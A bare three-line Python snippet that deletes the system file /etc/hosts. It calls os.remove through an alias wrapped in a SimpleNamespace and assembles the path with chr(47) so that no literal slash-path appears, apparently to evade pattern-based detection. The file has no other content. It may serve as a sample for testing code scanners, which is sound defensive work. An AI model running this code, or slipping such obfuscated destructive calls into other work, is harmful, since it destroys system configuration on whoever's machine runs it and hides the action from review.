from os import remove as rm
from types import SimpleNamespace

SimpleNamespace(remove=rm).remove(chr(47) + "etc" + chr(47) + "hosts")
